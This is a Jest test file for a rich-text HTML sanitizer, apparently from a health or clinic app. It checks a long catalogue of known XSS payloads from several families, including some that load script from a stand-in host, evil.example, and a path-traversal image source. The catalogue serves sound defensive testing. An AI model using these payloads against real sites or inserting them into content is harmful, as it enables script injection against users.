/**
 * @jest-environment jsdom
 *
 * The output is parsed the way a browser parses it (jsdom), then every element, attribute and URL is
 * checked against the allow-list: a payload that survives in any shape fails, not only its exact text.
 */
import { sanitizeRichText } from './sanitize';

const ELEMENTS = new Set([
  'P', 'BR', 'HR', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'STRONG', 'B', 'EM', 'I', 'U', 'S', 'STRIKE', 'SUB', 'SUP',
  'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A', 'IMG',
  'TABLE', 'CAPTION', 'COLGROUP', 'COL', 'THEAD', 'TBODY', 'TFOOT', 'TR', 'TH', 'TD',
]);
const ATTRIBUTES: Record<string, readonly string[]> = {
  A: ['href', 'title', 'target', 'rel'],
  IMG: ['src', 'alt', 'title', 'width', 'height'],
  OL: ['start'],
  TH: ['colspan', 'rowspan'],
  TD: ['colspan', 'rowspan'],
  COL: ['span'],
  CODE: ['class'],
};
const OWN_UPLOAD = /^\/uploads\/(global|\d+)\/[0-9a-f]{32}\.(jpg|png|gif|webp|preview\.webp)$/;

/** The scheme a browser reads in an absolute URL; '' for a relative one. */
function protocolOf(url: string): string {
  try {
    return new URL(url).protocol;
  } catch {
    return '';
  }
}

/**
 * The few DOM shapes the checker reads. (The DOM library is not in the server's TypeScript program:
 * adding it would retype Node's streams for every file.)
 */
interface ParsedElement {
  tagName: string;
  namespaceURI: string | null;
  attributes: ArrayLike<{ name: string }>;
  children: ArrayLike<ParsedElement>;
  getAttribute(name: string): string | null;
}
const browserDocument = (globalThis as unknown as { document: { createElement(tag: 'template'): { innerHTML: string; content: { children: ArrayLike<ParsedElement> } } } })
  .document;

/** Every reason the sanitised HTML could still run script or leave the allow-list; [] when it is clean. */
function problemsOf(html: string): string[] {
  const template = browserDocument.createElement('template');
  template.innerHTML = html;
  const problems: string[] = [];
  const walk = (node: { children: ArrayLike<ParsedElement> }) => {
    for (const element of Array.from(node.children)) {
      // Elements in the SVG or MathML namespace have lower-case tagName; both fail the upper-case list.
      if (!ELEMENTS.has(element.tagName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
        problems.push(`element ${element.tagName}`);
      }
      for (const attribute of Array.from(element.attributes)) {
        if (!(ATTRIBUTES[element.tagName] ?? []).includes(attribute.name)) problems.push(`attribute ${element.tagName}[${attribute.name}]`);
      }
      const href = element.getAttribute('href');
      if (href !== null && !['http:', 'https:', 'mailto:'].includes(protocolOf(href))) problems.push(`href ${href}`);
      const src = element.getAttribute('src');
      if (src !== null && !OWN_UPLOAD.test(src) && protocolOf(src) !== 'https:') problems.push(`src ${src}`);
      if (element.getAttribute('target') === '_blank') {
        const rel = (element.getAttribute('rel') ?? '').split(' ');
        if (!rel.includes('noopener') || !rel.includes('noreferrer')) problems.push(`rel ${rel.join(' ')}`);
      }
      const className = element.getAttribute('class');
      if (className !== null && !/^language-[\w+#-]+$/.test(className)) problems.push(`class ${className}`);
      walk(element);
    }
  };
  walk(template.content);
  return problems;
}

/** Known XSS payloads, by family (OWASP's filter-evasion list, html5sec.org and PortSwigger's cheat sheet). */
const PAYLOADS: Record<string, string[]> = {
  'script tags': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script/xss src=https://evil.example/x.js></script>',
    '<<script>alert(1);//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<p>ok</p><script>alert(1)</script><p>ok</p>',
    '<script>/*</script><img src=x onerror=alert(1)>*/</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<img src="https://example.com/a.png" onload="alert(1)">',
    '<p onclick="alert(1)">x</p>',
    '<body onload=alert(1)>',
    '<a href="https://example.com" onmouseover="alert(1)">x</a>',
    '<div onpointerenter=alert(1)>x</div>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<img src=x oNeRrOr=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\t=alert(1)>',
    '<p style="x" onclick=alert(1) onclick=alert(2)>x</p>',
  ],
  'javascript:, data: and vbscript: URLs': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="http://plain.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="/uploads/../../etc/passwd">',
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="https://example.com" formaction="javascript:alert(1)">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a href=javascript:alert(1)>x</a>',
    '<a href="  &#14;  javascript:alert(1)">x</a>',
  ],
  'SVG and MathML': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
  ],
  'CSS': [
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background: url(javascript:alert(1))">x</p>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>p { background: url("javascript:alert(1)") }</style><p>x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="-moz-binding: url(https://evil.example/x.xml#xss)">x</p>',
    '<div style="background-image: url(&#1;javascript:alert(1))">x</div>',
  ],
  'malformed and unclosed tags': [
    '<img """><script>alert(1)</script>">',
    '<img src=x onerror=alert(1)//',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<a href="https://example.com"<script>alert(1)</script>',
    '<<img src=x onerror=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<p>unclosed <b>bold <i>italic',
    '</p><img src=x onerror=alert(1)><p>',
    '<iframe<?php echo 1;?> src=javascript:alert(1)>',
    '<img src=`x`onerror=alert(1)>',
    '<a href="https://example.com" title="x\' onmouseover=alert(1) x=\'">x</a>',
    '<p/onclick=alert(1)>x',
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
  ],
  'frames, embeds and document-level tags': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="https://evil.example/x.swf">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="x.class"></applet>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<portal src="https://evil.example"></portal>',
    '<link rel="import" href="https://evil.example/x.html">',
  ],
};

describe('sanitizeRichText: known XSS payloads', () => {
  const cases = Object.entries(PAYLOADS).flatMap(([family, payloads]) => payloads.map((payload) => [family, payload] as const));
  it.each(cases)('%s: %s', (_family, payload) => {
    const output = sanitizeRichText(payload);
    expect(problemsOf(output)).toEqual([]);
    // Sanitising is stable: cleaning the output again changes nothing (no payload reassembles itself).
    expect(sanitizeRichText(output)).toBe(output);
  });

  it('the checker itself catches script-capable markup (it can fail)', () => {
    expect(problemsOf('<img src=x onerror=alert(1)>')).toEqual(['attribute IMG[onerror]', 'src x']);
    expect(problemsOf('<svg onload=alert(1)>')).toContain('element svg');
    expect(problemsOf('<a href="javascript:alert(1)">x</a>')).toEqual(['href javascript:alert(1)']);
    expect(problemsOf('<a href="https://x.test" target="_blank">x</a>')).toEqual(['rel ']);
  });
});

describe('sanitizeRichText: what the editor writes survives unchanged', () => {
  const ordinary = [
    '<p>Plain paragraph with <strong>bold</strong>, <em>italic</em>, <u>underline</u>, <s>strike</s> and <code>code</code>.</p>',
    '<h1>Title</h1><h2>Before surgery</h2><h3>Week 1</h3><p>Text</p>',
    '<ul><li><p>Protein first</p></li><li><p>Water between meals</p></li></ul>',
    '<ol start="3"><li><p>Third</p></li><li><p>Fourth</p></li></ol>',
    '<blockquote><p>Small steps, every day.</p></blockquote>',
    '<p>Line one<br />Line two</p><hr />',
    '<pre><code class="language-javascript">const x = 1 &lt; 2;</code></pre>',
    '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/guide">Guide</a></p>',
    '<p><a href="mailto:clinic@example.com">Write to us</a> or <a href="http://example.org">visit</a>.</p>',
    '<img src="https://cdn.example.com/plate.png" alt="A balanced plate" />',
    '<img src="/uploads/101/0123456789abcdef0123456789abcdef.png" alt="Our team" width="300" height="200" />',
    '<table><tbody><tr><th colspan="2">Meal</th></tr><tr><td>Breakfast</td><td>Eggs</td></tr></tbody></table>',
    '<p>Symbols &amp; quotes: "5 &lt; 6" &gt; 4 — café</p>',
    '<p></p>',
  ];
  it.each(ordinary)('%s', (html) => {
    expect(sanitizeRichText(html)).toBe(html);
    expect(problemsOf(html)).toEqual([]);
  });
});

describe('sanitizeRichText: what it changes', () => {
  it('adds noopener and noreferrer to a link that opens a new tab, keeping its other words', () => {
    expect(sanitizeRichText('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeRichText('<a href="https://example.com" target="_blank" rel="nofollow opener">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="nofollow noopener noreferrer">x</a>',
    );
  });

  it('keeps a link text but drops a relative or scriptable href, and other targets', () => {
    expect(sanitizeRichText('<a href="/admin" target="_top">x</a>')).toBe('<a>x</a>');
    expect(sanitizeRichText('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
  });

  it('removes images from anywhere but https and our own uploads', () => {
    expect(sanitizeRichText('<p>a<img src="http://example.com/x.png" />b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<p>a<img src="/uploads/101/0123456789abcdef0123456789abcdef.svg" />b</p>')).toBe('<p>ab</p>');
    // A private upload (a patient's document) is never shown in content, and a PDF is no image.
    expect(sanitizeRichText('<p>a<img src="/uploads/101/private/0123456789abcdef0123456789abcdef.png" />b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<p>a<img src="/uploads/101/0123456789abcdef0123456789abcdef.pdf" />b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<img src="/uploads/global/0123456789abcdef0123456789abcdef.preview.webp" />')).toBe(
      '<img src="/uploads/global/0123456789abcdef0123456789abcdef.preview.webp" />',
    );
  });

  it('drops style, classes and ids, keeping the text', () => {
    expect(sanitizeRichText('<p style="color: red" class="x" id="y">Red</p>')).toBe('<p>Red</p>');
  });

  it('drops script and style contents instead of showing them as text', () => {
    expect(sanitizeRichText('<p>a</p><script>alert(1)</script><style>p{}</style><p>b</p>')).toBe('<p>a</p><p>b</p>');
  });
});
